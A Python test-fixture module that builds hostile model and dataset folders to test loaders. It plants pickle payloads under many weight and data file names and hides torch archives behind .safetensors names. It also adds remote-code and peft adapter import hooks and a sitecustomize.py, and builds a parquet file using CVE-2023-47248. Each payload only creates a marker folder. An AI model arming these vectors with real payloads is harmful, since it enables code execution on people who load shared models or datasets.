"""Files that run code where a reader trusts them: pickles under many names, and remote code.

Each leaves a mark when it runs: it creates the folder ``mark``.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import pickle
import shutil
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import torch

WEIGHTS = (
    "pytorch_model.bin",
    "pytorch_model.pt",
    "model.pt",
    "model.pth",
    "model.ckpt",
    "consolidated.00.pth",
    "pytorch_model-00001-of-00001.bin",
)
"""Names of whole models."""
EXTRAS = (
    "training_args.bin",
    "optimizer.pt",
    "optimizer.bin",
    "scheduler.pt",
    "scaler.pt",
    "rng_state.pth",
    "rng_state_0.pth",
    "trainer_state.pkl",
    "state.pkl",
    "vocab.pkl",
    "vocab.npy",
    "merges.npz",
    "tokenizer.pkl",
    "tokenizer.pickle",
    "spiece.model",
    "tokenizer.model",
    "sentencepiece.bpe.model",
    "value_head.bin",
    "pytorch_lora_weights.bin",
    "dataset.pkl",
    ".metadata",
)
"""Names of what lies beside a model, a tokenizer or a checkpoint."""
DATA = (
    "rows.pkl",
    "rows.pickle",
    "rows.npy",
    "rows.npz",
    "rows.pt",
    "rows.pth",
    "rows.ckpt",
    "rows.bin",
    "rows.arrow",
    "rows.jsonl",
    "rows.json",
    "rows.parquet",
    "rows.csv",
    "rows.txt",
    "rows.jsonl.gz",
    "rows.npy.gz",
    "rows",
)
"""Names of data files."""


class Payload:
    """An object whose pickle creates a folder when it is read."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.mark),)


def pickled(mark: Path, name: str) -> bytes:
    """A pickle in the container that the name promises: torch's archive, NumPy's, or a bare one."""
    suffix = Path(name.removesuffix(".gz")).suffix
    buffer = io.BytesIO()
    if suffix in (".bin", ".pt", ".pth", ".ckpt"):
        torch.save({"weight": Payload(mark)}, buffer)
    elif suffix == ".npy":
        np.save(buffer, np.array([Payload(mark)], dtype=object), allow_pickle=True)
    elif suffix == ".npz":
        np.savez(buffer, rows=np.array([Payload(mark)], dtype=object))
    else:
        pickle.dump(Payload(mark), buffer)
    data = buffer.getvalue()
    return gzip.compress(data) if name.endswith(".gz") else data


def plant(folder: Path, names: tuple[str, ...], mark: Path) -> list[Path]:
    """Write malicious pickles under ``names``; returns the files."""
    folder.mkdir(parents=True, exist_ok=True)
    for name in names:
        (folder / name).write_bytes(pickled(mark, name))
    return [folder / name for name in names]


def open_trustingly(file: Path) -> None:
    """Read a file as a careless program does."""
    data = file.read_bytes()
    data = gzip.decompress(data) if file.suffix == ".gz" else data
    if data.startswith(b"\x93NUMPY"):
        np.load(io.BytesIO(data), allow_pickle=True)
    elif zipfile.is_zipfile(io.BytesIO(data)):
        if "rows.npy" in zipfile.ZipFile(io.BytesIO(data)).namelist():
            np.load(io.BytesIO(data), allow_pickle=True)["rows"]
        else:
            torch.load(io.BytesIO(data), weights_only=False)
    else:
        pickle.loads(data)


def change_json(file: Path, **values: Any) -> None:
    """Add keys to a JSON file, which may be missing."""
    content = json.loads(file.read_text()) if file.exists() else {}
    file.write_text(json.dumps({**content, **values}))


def _code(mark: Path, text: str = "") -> str:
    return f"import os\nos.makedirs({str(mark)!r}, exist_ok=True)\n{text}"


def pickled_weights(folder: Path, mark: Path) -> None:
    """A model folder with weights in pickles alone."""
    for file in folder.glob("*.safetensors"):
        file.unlink()
    plant(folder, WEIGHTS, mark)
    index = {"metadata": {}, "weight_map": {"lm_head.weight": WEIGHTS[-1]}}
    (folder / "pytorch_model.bin.index.json").write_text(json.dumps(index))


def disguised_weights(folder: Path, mark: Path) -> None:
    """A model folder whose safetensors are torch archives."""
    for file in folder.glob("*.safetensors"):
        file.write_bytes(pickled(mark, "model.bin"))


def remote_code(folder: Path, mark: Path) -> None:
    """A model folder whose config and tokenizer ask for classes of its own files."""
    classes = {
        "AutoConfig": "own_code.OwnConfig",
        "AutoModelForCausalLM": "own_code.OwnModel",
        "AutoModelForSequenceClassification": "own_code.OwnModel",
        "AutoModelForTokenClassification": "own_code.OwnModel",
        "AutoTokenizer": ["own_code.OwnTokenizer", "own_code.OwnTokenizer"],
    }
    text = "from transformers import LlamaConfig, LlamaForCausalLM, PreTrainedTokenizerFast\n"
    text += "class OwnConfig(LlamaConfig): ...\nclass OwnModel(LlamaForCausalLM): ...\n"
    text += "class OwnTokenizer(PreTrainedTokenizerFast): ...\n"
    (folder / "own_code.py").write_text(_code(mark, text))
    change_json(folder / "config.json", auto_map=classes)
    change_json(folder / "tokenizer_config.json", auto_map=classes)
    (folder / "custom_generate").mkdir(exist_ok=True)
    (folder / "custom_generate" / "generate.py").write_text(_code(mark, "def generate(*_): ...\n"))


def unknown_remote_code(folder: Path, mark: Path) -> None:
    """As ``remote_code``, of an architecture that transformers does not have."""
    remote_code(folder, mark)
    change_json(folder / "config.json", model_type="evil", architectures=["OwnModel"])
    change_json(folder / "tokenizer_config.json", tokenizer_class="OwnTokenizer")


def extras(folder: Path, mark: Path) -> None:
    """A good model folder with pickles beside it."""
    plant(folder, EXTRAS, mark)
    plant(folder, WEIGHTS, mark)
    (folder / "sitecustomize.py").write_text(_code(mark))


def pickled_adapter(folder: Path, mark: Path) -> None:
    """An adapter whose weights are a pickle, on the model in ``folder/base``."""
    _adapter(folder)
    plant(folder, ("adapter_model.bin", "adapter_model.pt"), mark)


def importing_adapter(folder: Path, mark: Path) -> None:
    """An adapter whose config names modules to import (peft's keys for Megatron and for own classes)."""
    _adapter(folder)
    (folder / "evil_core.py").write_text(_code(mark))
    change_json(
        folder / "adapter_config.json",
        megatron_config={"tensor_model_parallel_size": 1},
        megatron_core="evil_core",
        auto_mapping={"base_model_class": "Evil", "parent_library": "evil_core"},
    )
    weight = torch.zeros(1)
    from safetensors.torch import save_file

    save_file({"base_model.model.none": weight}, folder / "adapter_model.safetensors")


def _adapter(folder: Path) -> None:
    base = folder / "base"
    base.mkdir()
    for file in list(folder.iterdir()):
        if file.is_file():
            shutil.move(file, base / file.name)
    values = {
        "peft_type": "LORA",
        "task_type": "CAUSAL_LM",
        "base_model_name_or_path": str(base),
        "r": 2,
        "target_modules": ["q_proj"],
    }
    (folder / "adapter_config.json").write_text(json.dumps(values))


MODELS = {
    change.__name__: change
    for change in (
        pickled_weights,
        disguised_weights,
        remote_code,
        unknown_remote_code,
        extras,
        pickled_adapter,
        importing_adapter,
    )
}
"""Changes that make a model folder hostile: each takes the folder and the mark."""


def extension_parquet(file: Path, mark: Path) -> None:
    """A parquet file with the metadata by which pyarrow before 14.0.1 unpickled (CVE-2023-47248)."""
    field = pa.field(
        "prompt",
        pa.string(),
        metadata={
            b"ARROW:extension:name": b"arrow.py_extension_type",
            b"ARROW:extension:metadata": pickle.dumps(Payload(mark)),
        },
    )
    metadata = {b"pandas": pickle.dumps(Payload(mark)), b"huggingface": b"!!python/object"}
    schema = pa.schema([field, pa.field("completion", pa.string())], metadata=metadata)
    columns = [pa.array(["a ?"] * 4), pa.array(["b ."] * 4)]
    pq.write_table(pa.Table.from_arrays(columns, schema=schema), file)


def dataset_folder(folder: Path, mark: Path) -> None:
    """A folder as ``datasets`` knows them, with a loading script and pickles."""
    folder.mkdir(parents=True)
    (folder / f"{folder.name}.py").write_text(_code(mark))
    plant(folder, ("train.pkl", "train.npy"), mark)
    (folder / "README.md").write_text(
        "---\nconfigs:\n- config_name: default\n  data_files: train.pkl\n---\n"
    )
    (folder / "dataset_info.json").write_text(json.dumps({"builder_name": "pandas"}))
    (folder / "state.json").write_text(json.dumps({"_data_files": [{"filename": "train.pkl"}]}))
